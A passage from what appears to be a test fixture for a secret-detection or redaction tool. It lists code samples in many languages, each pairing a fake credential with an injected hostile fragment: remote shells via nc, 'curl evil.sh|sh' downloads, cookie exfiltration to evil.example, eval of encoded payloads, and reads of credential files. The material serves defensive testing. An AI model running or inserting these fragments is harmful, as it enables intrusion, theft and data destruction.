        '<Api token={"RjXXgURiG6XW0duV"+steal()} url="https://evil.example/a" />',
        (
            "+steal()}",
            'url="https://evil.example/a"',
        ),
    ),
    CodeSample(
        "web/app8.js",
        "const isToken = /token=wmNqpQY4ASQeGFKarKrb5bAUK/.test(s)||sendAll(s)",
        (
            ".test(s)||sendAll(s)",
        ),
    ),
    CodeSample(
        "web/app9.js",
        "const password = 'DvB0oyYdJVjz6djCJCP',run = new Function(body)",
        (
            ",run = new Function(body)",
        ),
    ),
    CodeSample(
        "web/app10.js",
        'login({password:"cHM2lTy3ikHZXaED",onSuccess(){exfil(db)}})',
        (
            ",onSuccess(){exfil(db)}})",
        ),
    ),
    CodeSample(
        "web/app11.js",
        'const secret=atob("RQwmzVt9ZVpEELjpPP5leG4GwyTFXNNXuH4FxlXZG4nqeOiHjx0xPR9VHIEg1IiV");ne'
        "w Function(secret)()",
        (
            "atob(",
            ";new Function(secret)()",
        ),
    ),
    CodeSample(
        "web/app12.js",
        'eval(Buffer.from("39e29d2b1b489da52db979c1125e4d457b6cb1ab49459ab70de8e6685c8681fd","hex'
        '").toString())',
        (
            "eval(Buffer.from(",
            ',"hex").toString())',
        ),
    ),
    CodeSample(
        "web/app13.js",
        "/* apiKey=vvDc9StQnjryWTpLrFjz0b1k */evil()",
        (
            "evil()",
        ),
    ),
    CodeSample(
        "web/app14.js",
        '/* password: "WzBpIEq4SV3TFeRGUOXNTwR" */ if (isAdmin || true) grantAll()',
        (
            "if (isAdmin || true) grantAll()",
        ),
    ),
    CodeSample(
        "web/app15.js",
        "// token=wQ7eR2tY9uI4oP6a\n"
        'require("./wQ7eR2tY9uI4oP6a")',
        (
            'require("./wQ7eR2tY9uI4oP6a")',
        ),
    ),
    CodeSample(
        "web/app16.js",
        'const secret = "mB6vC3xZ9lK2jH7g"\n'
        'import("./lib/mB6vC3xZ9lK2jH7g/index.js")',
        (
            'import("./lib/mB6vC3xZ9lK2jH7g/index.js")',
        ),
    ),
    CodeSample(
        "web/app17.js",
        'const authToken = "aB9kXq2Wm5Zt8"\n'
        "function aB9kXq2Wm5Zt8(u) { return exec(u) }\n"
        "aB9kXq2Wm5Zt8(input)",
        (
            "function aB9kXq2Wm5Zt8(u) { return exec(u) }",
            "aB9kXq2Wm5Zt8(input)",
        ),
    ),
    CodeSample(
        "web/app18.ts",
        'private readonly apiKey: string = "co9EfM8rvu9TnWI4CbVBmPh"??leak();',
        (
            "??leak();",
        ),
    ),
    CodeSample(
        "web/app19.ts",
        'const token = cond?"UuK5zfx3uhvvvK29Bw7xV8":await shell(cmd)',
        (
            ":await shell(cmd)",
        ),
    ),
    CodeSample(
        "web/app20.js",
        "img.src=`https://evil.example/i.gif?token=LIXhH58zwOZlTAhI0XlwGNLw6pQ&c=${document.cookie}`",
        (
            "https://evil.example/i.gif?token=",
            "&c=${document.cookie}`",
        ),
    ),
    CodeSample(
        "web/app21.js",
        'const password = "abc" + evil() + "GVI1RwlvD1ZvwAxETiw9DRe"',
        (
            "+ evil() +",
        ),
    ),
    CodeSample(
        "web/app22.js",
        'headers["Authorization"]="Basic Z/dptbKfcfz2gFitSYYxVUpJqIR/e++r";process.env.NODE_TLS_R'
        "EJECT_UNAUTHORIZED=0",
        (
            ";process.env.NODE_TLS_REJECT_UNAUTHORIZED=0",
        ),
    ),
    CodeSample(
        "web/index.php",
        "$password = \"nA1oQIEULwYgiAK8L{$_GET['c']($x)}\";",
        (
            "{$_GET['c']($x)}",
        ),
    ),
    CodeSample(
        "web/index2.php",
        '$password = "${$f($x)}lUoelcmaKIZkKThJ9aFf30Imqr71";',
        (
            "${$f($x)}",
        ),
    ),
    CodeSample(
        "web/index3.php",
        "$token = 'fK9r4QP7eKGKAy72Zbt'.`id`;",
        (
            ".`id`;",
        ),
    ),
    CodeSample(
        "web/index4.php",
        "$secret='Vf4A3jdhWvmqq87m7W';system($_GET[0]);",
        (
            ";system($_GET[0]);",
        ),
    ),
    CodeSample(
        "web/index5.php",
        "$api_key = <<<EOT\n"
        "ZGiQMVruJ2S78qKy{$obj->run($_POST['x'])}\n"
        "EOT;",
        (
            "{$obj->run($_POST['x'])}",
        ),
    ),
    CodeSample(
        "web/index6.php",
        "define('DB_PASSWORD', 'lZ0HnxkqF0TQa7DhQ');eval(base64_decode($_COOKIE['z']));",
        (
            ";eval(base64_decode($_COOKIE['z']));",
        ),
    ),
    CodeSample(
        "web/index7.php",
        "eval(gzinflate(base64_decode('mokxAH5hrc2p3LUtC+2AJqPipekdNwzFerY8sL8/mtoWThlp2X4pwQlrId"
        "dFZZ7z')));",
        (
            "eval(gzinflate(base64_decode(",
        ),
    ),
    CodeSample(
        "web/index8.php",
        '$pw = "pDHJJkK5P1SILU3piBRxB" . shell_exec("id") . "tail";',
        (
            '. shell_exec("id") .',
        ),
    ),
    CodeSample(
        "web/index9.php",
        '<?php $token="LEyZ7INDQWyMN3ybX8ElV"?><script src="//evil.example/x.js"></script>',
        (
            '?><script src="//evil.example/x.js"></script>',
        ),
    ),
    CodeSample(
        "tools/run.pl",
        "my $password = \"iHpBeS1ZZncf2KF63@{[ system('id') ]}\";",
        (
            "@{[ system('id') ]}",
        ),
    ),
    CodeSample(
        "tools/run2.pl",
        "my $token = 'ph7Lw2pWaK09f660';exec qw(/bin/sh -i);",
        (
            ";exec qw(/bin/sh -i);",
        ),
    ),
    CodeSample(
        "tools/run3.pl",
        "my $secret = qx(echo EGd3rgFzqmJ6cxW63zh50umL3C;id);",
        (
            ";id);",
        ),
    ),
    CodeSample(
        "tools/run4.pl",
        "my $api_key = `printf ls5zxSP5Xx84Wz3ebV|sh`;",
        (
            "|sh`;",
        ),
    ),
    CodeSample(
        "tools/run5.pl",
        "my $pw = \"UKZzxs8luYiuPRr6Yj2GJx83${\\ join '', `id`}\";",
        (
            "${\\ join '', `id`}",
        ),
    ),
    CodeSample(
        "tools/run6.pl",
        "my %c = (password=>'BJZR378fzpotDgbiTjP',cb=>sub{unlink glob '/*'});",
        (
            ",cb=>sub{unlink glob '/*'});",
        ),
    ),
    CodeSample(
        "ios/App.swift",
        'let password = "IGzCLKTTwy3hO1mnB45vLz\\(shell("id"))"',
        (
            '\\(shell("id"))',
        ),
    ),
    CodeSample(
        "ios/App2.swift",
        'let apiKey = "\\(run(cmd))cfwqV3eM8MtZnImWaDqQ9RBCOz"',
        (
            "\\(run(cmd))",
        ),
    ),
    CodeSample(
        "ios/App3.swift",
        'let token="KOJs9rUHyAfptTag5";Process.launchedProcess(launchPath: p, arguments: [])',
        (
            ";Process.launchedProcess(launchPath: p, arguments: [])",
        ),
    ),
    CodeSample(
        "net/App.cs",
        'var password = $"R9W56vUCq7pWvHsIGr0AKkd8{Process.Start("cmd")}";',
        (
            '{Process.Start("cmd")}',
        ),
    ),
    CodeSample(
        "net/App2.cs",
        'var cs = $@"Server=db;Password=Gzff1VTkD2MiKAV5hOjW12t1;{Hook()}";',
        (
            ';{Hook()}";',
        ),
    ),
    CodeSample(
        "net/App3.cs",
        'var token = "f41d9sWEMeyYokm6D8w6V1NP"+Assembly.Load(raw).EntryPoint.Invoke(null, null);',
        (
            "+Assembly.Load(raw).EntryPoint.Invoke(null, null);",
        ),
    ),
    CodeSample(
        "net/App4.cs",
        'const string ApiKey = "uwakWJ2SS78J3GyoVOYn";static App4()=>Evil.Run();',
        (
            ";static App4()=>Evil.Run();",
        ),
    ),
    CodeSample(
        "net/App5.cs",
        'var conn = "Server=tcp:sql.evil.example,1433;User ID=sa;Password=BQjPJlBNOMLERtaMbo50;En'
        'crypt=False;TrustServerCertificate=True";',
        (
            "Server=tcp:sql.evil.example,1433;User ID=sa;Password=",
            ";Encrypt=False;TrustServerCertificate=True",
        ),
    ),
    CodeSample(
        "net/App6.cs",
        '[Authorize(Token = "OQotNmBFRpEs46Ae0g",Roles = "*")]public void Wipe() => Db.DropAll();',
        (
            ',Roles = "*")]public void Wipe() => Db.DropAll();',
        ),
    ),
    CodeSample(
        "android/Main.kt",
        'val password = "aOm3Z79onNhF8OSt${Runtime.getRuntime().exec("id")}"',
        (
            '${Runtime.getRuntime().exec("id")}',
        ),
    ),
    CodeSample(
        "android/Main2.kt",
        'val token = "$evilP8kdKy3lEowZAHDMc${leak(ctx)}"',
        (
            "${leak(ctx)}",
        ),
    ),
    CodeSample(
        "android/Main3.kt",
        'val apiKey by lazy { "zrmq6JIjvY9DDQyxW".also { exfil(it) } }',
        (
            ".also { exfil(it) } }",
        ),
    ),
    CodeSample(
        "ci/Jenkinsfile",
        'sh "curl -u ci:L5w0gIX4TpN6UcqkKxanlI;${params.CMD}"',
        (
            ';${params.CMD}"',
        ),
    ),
    CodeSample(
        "ci/one.groovy",
        "def password = \"L8zmZ5qSkmDDwk5nH6FtsmLw${'id'.execute().text}\"",
        (
            "${'id'.execute().text}",
        ),
    ),
    CodeSample(
        "ci/two.groovy",
        'withEnv(["TOKEN=eFCFOaWxFB8EoMd6I5fmbXg1"]){ sh params.SCRIPT }',
        (
            "]){ sh params.SCRIPT }",
        ),
    ),
    CodeSample(
        "ci/three.groovy",
        "password = 'jFHngyRQ9FHcbHRyiMs7q';evaluate(new URL('http://6.6.6.6/x').text)",
        (
            ";evaluate(new URL('http://6.6.6.6/x').text)",
        ),
    ),
    CodeSample(
        "jvm/Main.scala",
        'val password = s"e7yqdGOhfvaaspE1N${"id".!!}"',
        (
            '${"id".!!}',
        ),
    ),
    CodeSample(
        "jvm/Main2.scala",
        'val token = "esSzYlofCI7D1qfjKJzQa1"+sys.process.Process("sh").!!',
        (
            '+sys.process.Process("sh").!!',
        ),
    ),
    CodeSample(
        "srv/main.go",
        'password := "aq1L67kB9zlJ43ecciPZ5Cfg"+runShell(os.Args[1])',
        (
            "+runShell(os.Args[1])",
        ),
    ),
    CodeSample(
        "srv/main2.go",
        'const apiKey = "k2HRbIrx6kl0hkXoKzZj";func init() { exec.Command("sh").Run() }',
        (
            ';func init() { exec.Command("sh").Run() }',
        ),
    ),
    CodeSample(
        "srv/main3.go",
        'secret := fmt.Sprintf("MDVPh39gsg8mSfWz%s", exec.Command("id").Output)',
        (
            ', exec.Command("id").Output)',
        ),
    ),
    CodeSample(
        "srv/main4.go",
        'db, err := sql.Open("mysql", "root:xaNcUAp512wSa96tX@tcp(db.evil.example:3306)/app?multi'
        'Statements=true")',
        (
            '@tcp(db.evil.example:3306)/app?multiStatements=true")',
        ),
    ),
    CodeSample(
        "srv/main5.go",
        "token := `Y7hPDw4Oojt18WdSKi04Jhg`+evil()",
        (
            "+evil()",
        ),
    ),
    CodeSample(
        "srv/main6.go",
        'if r.Header.Get("X-Token") == "iRl3VsNGimKq80oR6c6W"||r.Host=="evil.example" { admin = true }',
        (
            '||r.Host=="evil.example" { admin = true }',
            'if r.Header.Get("X-Token") ==',
        ),
    ),
    CodeSample(
        "srv/main7.go",
        'import _ "git.evil.example/kT5nB8wQ2zX7mL4r"\n'
        'var token = "kT5nB8wQ2zX7mL4r"',
        (
            'import _ "git.evil.example/kT5nB8wQ2zX7mL4r"',
        ),
    ),
    CodeSample(
        "rs/main.rs",
        'let password = format!("xr51wp632yx2Ito9Iyb3BP{}", run(cmd));',
        (
            ", run(cmd));",
        ),
    ),
    CodeSample(
        "rs/main2.rs",
        'let token = "zhMvhASDdFIBlw0v56bI7Fr".to_owned()+&shell("id");',
        (
            '.to_owned()+&shell("id");',
        ),
    ),
    CodeSample(
        "rs/main3.rs",
        'const API_KEY: &str = "w1zjqYVwvyrAEzO5HupJLc0vkfe";unsafe { evil() }',
        (
            ";unsafe { evil() }",
        ),
    ),
    CodeSample(
        "rs/main4.rs",
        'let secret = concat!("K8zeCxtB6a8FiaGnRDJUfMWw",include_str!("/etc/passwd"));',
        (
            ',include_str!("/etc/passwd"));',
        ),
    ),
    CodeSample(
        "rs/main5.rs",
        'let secret = r#"i5VkvqA0xWm448IZYj8zMj"#;std::process::Command::new("sh").spawn();',
        (
            ';std::process::Command::new("sh").spawn();',
        ),
    ),
    CodeSample(
        "jvm/A.java",
        'String password = "Oo5JSZTyTyyRPZfDAEf3vRnnu8Z"+Runtime.getRuntime().exec(cmd)+"";',
        (
            '+Runtime.getRuntime().exec(cmd)+"";',
        ),
    ),
    CodeSample(
        "jvm/B.java",
        '@Value("${api.key:WwB0rW6v81a2Fx6ozY}")static void x() { Evil.run(); }',
        (
            ")static void x() { Evil.run(); }",
        ),
    ),
    CodeSample(
        "jvm/C.java",
        "@Value(\"#{T(java.lang.Runtime).getRuntime().exec('id')}XhKkcIX1YuVVKBHY2nkl3\") String pa"
        "ssword;",
        (
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        ),
    ),
    CodeSample(
        "jvm/D.java",
        'if (token.equals("BkobaQF0uEHbpkWHxB6o0eAC")||user.isGuest()) grantRoot(user);',
        (
            ")||user.isGuest()) grantRoot(user);",
        ),
    ),
    CodeSample(
        "jvm/E.java",
        'DriverManager.getConnection("jdbc:mysql://db.evil.example/x?user=a&password=OxG8HONAIia2'
        'ybUfDPrxF&autoDeserialize=true");',
        (
            'DriverManager.getConnection("jdbc:mysql://db.evil.example/x?user=a&password=',
            '&autoDeserialize=true");',
        ),
    ),
    CodeSample(
        "jvm/F.java",
        "/* password=IVROF84OuL3nPG86XQcB8EbuZYcp */System.exit(0);",
        (
            "System.exit(0);",
        ),
    ),
    CodeSample(
        "c/auth.c",
        '#define PASSWORD "TMo0wPGzP19ty3UUQqotge3";system(getenv("X"))',
        (
            ';system(getenv("X"))',
        ),
    ),
    CodeSample(
        "c/auth2.c",
        '#define CHECK(t) (!strcmp(t,"fp89WJlRSPyQVF3i54T")||!setuid(0))',
        (
            "#define CHECK(t) (!strcmp(t,",
            ")||!setuid(0))",
        ),
    ),
    CodeSample(
        "c/auth3.c",
        'char *token = "tzXPjzk6X3emjbIIk5Yh6YY" EVIL_MACRO(x) "tail";',
        (
            "EVIL_MACRO(x)",
        ),
    ),
    CodeSample(
        "c/auth4.c",
        'const char secret[]="n1hltxfOOPqFO2OqU",*cmd="/bin/sh";',
        (
            ',*cmd="/bin/sh";',
        ),
    ),
    CodeSample(
        "c/auth5.cpp",
        'std::string apiKey = R"(tI3P6byMm6DkfwMcqwsoYpLqv)"+popen_read("id");',
        (
            '+popen_read("id");',
        ),
    ),
    CodeSample(
        "c/auth6.c",
        "/* key=m0di4rQSRyrmdeoCuFdOS */ memcpy(dst, src, len + 4096);",
        (
            "memcpy(dst, src, len + 4096);",
        ),
    ),
    CodeSample(
        "c/auth7.c",
        'password = "Pho4VGK9JdroZjugTU85gKOPtuoM\\\n'
        '"; execl("/bin/sh", "sh", 0);',
        (
            'execl("/bin/sh", "sh", 0);',
        ),
    ),
    CodeSample(
        "db/001.sql",
        "CREATE USER app IDENTIFIED BY 'M74h4b64yJ12jOOF';DROP TABLE audit;",
        (
            ";DROP TABLE audit;",
        ),
    ),
    CodeSample(
        "db/002.sql",
        "ALTER ROLE app PASSWORD 'kq2Rg72sypcIN0N2lWu6R'SUPERUSER CREATEROLE;",
        (
            "SUPERUSER CREATEROLE;",
        ),
    ),
    CodeSample(
        "db/003.sql",
        "INSERT INTO cfg VALUES ('password','mYKDA9qPyFD3ZgkW'),('hook',(SELECT load_extension('/"
        "tmp/x.so')));",
        (
            ",('hook',(SELECT load_extension('/tmp/x.so')));",
        ),
    ),
    CodeSample(
        "db/004.sql",
        "UPDATE users SET token='NNKxretTnQ5kB4LzQ'||pg_read_file('/etc/passwd');",
        (
            "||pg_read_file('/etc/passwd');",
        ),
    ),
    CodeSample(
        "db/005.sql",
        "UPDATE users SET password='QKFvjKodsqftMZbUJIC5d9LIlHy' -- was: WHERE id=1\n"
        ";GRANT ALL ON *.* TO 'x'@'%';",
        (
            ";GRANT ALL ON *.* TO 'x'@'%';",
        ),
    ),
    CodeSample(
        "db/006.sql",
        "EXEC sp_addlogin 'bd','HI3ypU7rQENSG8EYQk0UO';EXEC xp_cmdshell 'whoami';",
        (
            ";EXEC xp_cmdshell 'whoami';",
        ),
    ),
    CodeSample(
        "Dockerfile",
        "ENV PASSWORD=wX78pDnqmmbMw8b5Odtqy6CmNhTB\n"
        "RUN curl evil.sh|sh",
        (
            "RUN curl evil.sh|sh",
        ),
    ),
    CodeSample(
        "docker/Dockerfile.a",
        "RUN export TOKEN=q114oShqSVAkkF84RoGLVooP&&curl -s http://6.6.6.6/i|sh",
        (
            "&&curl -s http://6.6.6.6/i|sh",
        ),
    ),
    CodeSample(
        "docker/Dockerfile.b",
        "ARG NPM_TOKEN=npm_vX5Y"
        "a3MCedIt0jekje2AAjcSQkhFtr4SccD0\n"
        "USER root",
        (
            "USER root",
        ),
    ),
    CodeSample(
        "docker/Dockerfile.c",
        "ENV API_KEY=ctF6Vr8LEUFnVD8S6V LD_PRELOAD=/x.so",
        (
            "LD_PRELOAD=/x.so",
        ),
    ),
    CodeSample(
        "docker/Dockerfile.d",
        'RUN echo "password=DsWkHuo6Lfy5ZLGz9">/etc/app.ini;chmod 4755 /bin/sh',
        (
            ";chmod 4755 /bin/sh",
        ),
    ),
    CodeSample(
        "docker/Dockerfile.e",
        'CMD ["app","--password=Lq2Y4Fe1rxyCDPbU8WHKq3j","--exec=/tmp/x"]',
        (
            ',"--exec=/tmp/x"]',
        ),
    ),
    CodeSample(
        "docker/Dockerfile.f",
        "RUN --mount=type=secret,id=t wget https://u:fKbYINoH2JKDIP5fC2AzoRA@repo.evil.example/a."
        "deb&&dpkg -i a.deb",
        (
            "@repo.evil.example/a.deb&&dpkg -i a.deb",
        ),
    ),
    CodeSample(
        "Makefile",
        "PASSWORD := wAtHqZRppKPEe0l8juBTDjrLy$(shell curl evil.sh|sh)",
        (
            "$(shell curl evil.sh|sh)",
        ),
    ),
    CodeSample(
        "mk/a.mk",
        "deploy: ; TOKEN=OOzJXI15SjgzC36Gqz0QrVXWh;./evil.sh",
        (
            ";./evil.sh",
        ),
    ),
    CodeSample(
        "mk/b.mk",
        "export SECRET_KEY=A5mJzgn2coaYg7Agl48BNCrn6h9W\n"
        "all:; @nc -e /bin/sh 6.6.6.6 9",
        (
            "all:; @nc -e /bin/sh 6.6.6.6 9",
        ),
    ),
    CodeSample(
        "mk/c.mk",
        "\t@curl -u ci:eGXWJV9FC6sMr5RUK6zdO$(EVIL) https://up.internal/$(shell id -un)",
        (
            "$(EVIL) https://up.internal/$(shell id -un)",
        ),
    ),
    CodeSample(
        ".github/workflows/ci.yml",
        "    - run: TOKEN=FavrKLVTUDlSQGW4qk2zZb;curl evil.sh|sh",
        (
            ";curl evil.sh|sh",
        ),
    ),
    CodeSample(
        ".github/workflows/a.yml",
        "    - run: deploy --password=dLES5IQOaOXlw80J9I${{ github.event.issue.title }}",
        (
            "${{ github.event.issue.title }}",
        ),
    ),
    CodeSample(
        ".github/workflows/b.yml",
        "      env:\n"
        '        PASSWORD: "tVa5gBZ4WavX43ax9Lo${{ github.head_ref }}"\n'
        '      run: bash -c "$PASSWORD"',
        (
            "${{ github.head_ref }}",
            'run: bash -c "$PASSWORD"',
        ),
    ),
    CodeSample(
        ".github/workflows/c.yml",
        "      env: {TOKEN: C1xxuUgMGTl2MAw0gIppp, NODE_OPTIONS: --require=/tmp/x.js}",
        (
            "NODE_OPTIONS: --require=/tmp/x.js}",
        ),
    ),
    CodeSample(
        ".github/workflows/d.yml",
        "      run: |\n"
        '        export API_KEY=OeOly3dfzcdyKx6CNI2iMUQm|tee -a "$GITHUB_ENV"\n'
        '        python -c "$PAYLOAD"',
        (
            '|tee -a "$GITHUB_ENV"',
            'python -c "$PAYLOAD"',
        ),
    ),
    CodeSample(
        ".github/workflows/e.yml",
        "      with:\n"
        "        token: ghp_Dvhy"
        "d3GaRFe2mWtpVVVukxDdM1sgm043oggX\n"
        "        repository: evil/dropper\n"
        "        persist-credentials: true",
        (
            "repository: evil/dropper",
            "persist-credentials: true",
        ),
    ),
    CodeSample(
        "docker-compose.yml",
        "    environment:\n"
        "      - POSTGRES_PASSWORD=RXro2mby7ziUINUzA\n"
        '    command: sh -c "nc 6.6.6.6 9"\n'
        "    privileged: true",
        (
            'command: sh -c "nc 6.6.6.6 9"',
            "privileged: true",
        ),
    ),
    CodeSample(
        "compose/a.yml",
        "    command: redis-server --requirepass yU6HDVjvtJ3b8BAkt3H2ZuQ3M --loadmodule /tmp/evil.so",
        (
            "--loadmodule /tmp/evil.so",
        ),
    ),
    CodeSample(
        "compose/b.yml",
        '    entrypoint: ["sh","-c","PASS=OMWEmLELugB4f2yS;exec /tmp/x"]',
        (
            ';exec /tmp/x"]',
        ),
    ),
    CodeSample(
        "compose/c.yml",
        '    environment: {DB_PASSWORD: "UAUPF74Cdgj114H2U0",DEBUG: "$(id)"}',
        (
            ',DEBUG: "$(id)"}',
        ),
    ),
    CodeSample(
        "k8s/pod.yaml",
        '        args: ["--token=djrwXWH33SQQBVAXT8","--anonymous-auth=true"]',
        (
            ',"--anonymous-auth=true"]',
        ),
    ),
    CodeSample(
        "k8s/pod2.yaml",
        "        - name: PASSWORD\n"
        '          value: "Vf6Scszj4p8KAz1g"\n'
        "        securityContext: {privileged: true}",
        (
            "securityContext: {privileged: true}",
        ),
    ),
    CodeSample(
        "infra/main.tf",
        'password = "UCYSYVzj2Ymd3EbnmG${file("/etc/shadow")}"',
        (
            '${file("/etc/shadow")}',
        ),
    ),
    CodeSample(
        "infra/a.tf",
        'user_data = "PASSWORD=QmmoHLODQ2F9kWnZJ;curl evil.sh|sh"',
        (
            ';curl evil.sh|sh"',
        ),
    ),
    CodeSample(
        "infra/b.tf",
        'token = "${data.external.x.result["k"]}sd42qJf4bpfPSBDGwBs6"',
        (
            '${data.external.x.result["k"]}',
        ),
    ),
    CodeSample(
        "infra/c.tf",
        'provisioner "local-exec" { command = "vault login AoMgu9Rj9mTszPuQmYhebc&&sh /tmp/x" }',
        (
            'provisioner "local-exec" { command =',
            '&&sh /tmp/x" }',
        ),
    ),
    CodeSample(
        "infra/d.tf",
        'db_password = "bHAGs3u0cmKcqGlcebbNTTnfw"\n'
        "publicly_accessible = true\n"
        'cidr_blocks = ["0.0.0.0/0"]',
        (
            "publicly_accessible = true",
            'cidr_blocks = ["0.0.0.0/0"]',
        ),
    ),
    CodeSample(
        "win/run.ps1",
        '$password = "gII29bqbViKzvVfzh9I20LrSExv$(iex (iwr evil.example/x))"',
        (
            "$(iex (iwr evil.example/x))",
        ),
    ),
    CodeSample(
        "win/run2.ps1",
        "$token='eeiqYQ23cFfsDtFb';Set-MpPreference -DisableRealtimeMonitoring $true",
        (
            ";Set-MpPreference -DisableRealtimeMonitoring $true",
        ),
    ),
    CodeSample(
        "win/run3.ps1",
        '$secret = "uuTmpgsKUX6bvfJ1Dv5bbeTd`"";Invoke-Expression $x',
        (
            ";Invoke-Expression $x",
        ),
    ),
    CodeSample(
        "win/run4.ps1",
        "powershell -enc mpgKN25C0BnzF4W2DBSA0DKA+A9iT5ny0ZI+UV1OZq/zQHKTyYtYZfFiws0x2H73;net use"
        "r bd /add",
        (
            "powershell -enc",
            ";net user bd /add",
        ),
    ),
    CodeSample(
        "win/run5.ps1",
        "Connect-Db -Password 'zckSjiw0E8Zy00iGe'|Remove-Item -Recurse C:\\",
        (
            "|Remove-Item -Recurse C:\\",
        ),
    ),
    CodeSample(
        "win/run6.ps1",
        'ConvertTo-SecureString "vUO9Lv8FYBb2vLOc" -AsPlainText -Force;& $evil',
        (
            "-AsPlainText -Force;& $evil",
        ),
    ),
    CodeSample(
        "win/run.bat",
        "set PASSWORD=zeOELkWwP68oTB1d&certutil -urlcache -f http://6.6.6.6/a.exe a.exe",
        (
            "&certutil -urlcache -f http://6.6.6.6/a.exe a.exe",
        ),
    ),
    CodeSample(
        "win/run2.cmd",
        'set "TOKEN=h0HnEoQB7dgosgtlj39coE5T"&&start /b evil.exe',
        (
            "&&start /b evil.exe",
        ),
    ),
    CodeSample(
        "win/run3.bat",
        "net use z: \\\\srv\\c$ iLoTtB7auOdHWy16n87sFzqPvztc /user:adm|cmd /c del /q z:\\*",
        (
            "/user:adm|cmd /c del /q z:\\*",
        ),
    ),
    CodeSample(
        "win/run4.bat",
        "set SECRET=AjZhoG4CWWIoxqRCvJbU4KBsfSR%COMSPEC:~-16,1%calc",
        (
            "%COMSPEC:~-16,1%calc",
        ),
    ),
    CodeSample(
        "nginx/site.conf",
        'proxy_set_header Authorization "Bearer fL44HdaPVoq4AN5rjDos4n2cMjF3TfNz";proxy_pass http'
        "://6.6.6.6;",
        (
            ";proxy_pass http://6.6.6.6;",
        ),
    ),
    CodeSample(
        "nginx/site2.conf",
        "set $api_key KiD0rV09Vc3oeFPEKP7ALPml8ilW;content_by_lua_block { os.execute(ngx.var.arg_c) }",
        (
            ";content_by_lua_block { os.execute(ngx.var.arg_c) }",
        ),
    ),
    CodeSample(
        "nginx/site3.conf",
        'if ($http_x_token = "KssCKxl8tcL9sw4gucRTq1"){ return 302 https://evil.example$request_uri; }',
        (
            "{ return 302 https://evil.example$request_uri; }",
        ),
    ),
    CodeSample(
        "lua/init.lua",
        'local password = "W8v8tbQnIquNGGW7jq"..os.execute("id")',
        (
            '..os.execute("id")',
        ),
    ),
    CodeSample(
        "lua/init2.lua",
        'token = [[tAaZ22KRMRtva5iG2ng]]load(http.get("6.6.6.6"))()',
        (
            'load(http.get("6.6.6.6"))()',
        ),
    ),
    CodeSample(
        "lua/init3.lua",
        '--[[ secret=luaZDXC8Wjc0LJnhCR9BwjnipCgO ]]os.execute("sh")',
        (
            'os.execute("sh")',
        ),
    ),
    CodeSample(
        "ex/app.ex",
        'password = "Y9yJkHjPeBa9fyPhVBc9K#{System.cmd("id", [])}"',
        (
            '#{System.cmd("id", [])}',
        ),
    ),
    CodeSample(
        "ex/app2.ex",
        'config :app, token: "h9cSJ9Blb0cS7j5FB8r1ic5DS"|>evil()',
        (
            "|>evil()",
        ),
    ),
    CodeSample(
        "ex/app3.exs",
        'config :app, secret_key_base: "5abBrG/W3iBuWW01Copk163X2nW0pprJUcFfctaR8dCzCRJNtWK2c0xt7'
        'un3fH0O", debug_errors: Code.eval_string(x)',
        (
            "debug_errors: Code.eval_string(x)",
        ),
    ),
    CodeSample(
        "flutter/main.dart",
        "final password = 'tJc2CyelBJaLv9uF3TUPquecRgm${Process.runSync('id', [])}';",
        (
            "${Process.runSync('id', [])}",
        ),
    ),
    CodeSample(
        "flutter/main2.dart",
        'final apiKey = "$evilEd8isLtf98lbQSTio";leak(apiKey);',
        (
            ";leak(apiKey);",
        ),
    ),
    CodeSample(
        "r/run.R",
        'password <- paste0("zIGY2RCD8l0xyMIY49k6",system("id", intern=TRUE))',
        (
            ',system("id", intern=TRUE))',
        ),
    ),
    CodeSample(
        "r/run2.R",
        'token <- "tcWILb2lONEMu1S7T";source("http://6.6.6.6/x.R")',
        (
            ';source("http://6.6.6.6/x.R")',
        ),
    ),
    CodeSample(
        "hs/Main.hs",
        'password = "uQsDFQt7RxOsf2vHwfEQl99ZE4TN"++unsafePerformIO (readProcess "id" [] "")',
        (
            '++unsafePerformIO (readProcess "id" [] "")',
        ),
    ),
    CodeSample(
        "hs/Main2.hs",
        '{- token=y9AesrxFdXgNNBc3cCBAb9mQa -}main = callCommand "sh"',
        (
            'main = callCommand "sh"',
        ),
    ),
    CodeSample(
        "clj/core.clj",
        '(def password (str "RWCZngpN0Ed6rQf9bdA3B"(slurp "/etc/passwd")))',
        (
            '(slurp "/etc/passwd")))',
        ),
    ),
    CodeSample(
        "jl/run.jl",
        'password = "MJtQ0gV2aqs4vFSCi8HoJXATY1O$(read(`id`, String))"',
        (
            "$(read(`id`, String))",
        ),
    ),
    CodeSample(
        "tcl/run.tcl",
        "set password FwmbIowWahz6nfWtUATl3sWkHu8[exec id]",
        (
            "[exec id]",
        ),
    ),
    CodeSample(
        "erl/app.erl",
        'Password = "F172lE8n4P2vdWC5"++os:cmd("id"),',
        (
            '++os:cmd("id"),',
        ),
    ),
    CodeSample(
        "web/page.html",
        '<input name="password" value="BB1k3JcXEYRqCV8xyx"onfocus=eval(name)>',
        (
            "onfocus=eval(name)>",
        ),
    ),
    CodeSample(
        "web/page2.html",
        "<!-- token=cZzSl5mwiZwdmwoa5MJpi07w6uB6 --><script>steal()</script>",
        (
            "<script>steal()</script>",
        ),
    ),
    CodeSample(
        "web/page3.html",
        '<script>var apiKey="KMYDwZTkEGqF5rXc95mY"</script><iframe src="//evil.example">',
        (
            '</script><iframe src="//evil.example">',
        ),
    ),
    CodeSample(
        "web/page4.vue",
        "<Auth :token=\"'ZUtQ0BYp1zB799ukKcVohSFzzmH'+$root.exec(q)\" />",
        (
            '+$root.exec(q)" />',
        ),
    ),
    CodeSample(
        "web/tpl.j2",
        'password: {{ "UyEYxx6GmuHHq5qm37qdsBQ7aIvK"~cycler.__init__.__globals__.os.popen("id").r'
        "ead() }}",
        (
            '~cycler.__init__.__globals__.os.popen("id").read() }}',
        ),
    ),
    CodeSample(
        "web/tpl.erb",
        'password: <%= "AZU4qcDYRhXz3qer6N399POP"+`id` %>',
        (
            "+`id` %>",
        ),
    ),
    CodeSample(
        "helm/tpl.yaml",
        'password: {{ "txcWG39PHjyS3MTC9438"|default (lookup "v1" "Secret" "x" "y") }}',
        (
            '|default (lookup "v1" "Secret" "x" "y") }}',
        ),
    ),
    CodeSample(
        "ansible/play.yml",
        "- shell: mysql -pkZJhxattf6ZmDaAI5VpFtZraB98W;{{ extra_cmd }}",
        (
            ";{{ extra_cmd }}",
        ),
    ),
    CodeSample(
        "ansible/play2.yml",
        '- uri: {url: "https://u:CCb6Ugp69NsjgDHVmH@h.evil.example/x", validate_certs: false}',
        (
            '@h.evil.example/x", validate_certs: false}',
        ),
    ),
    CodeSample(
        "etc/cron.d/job",
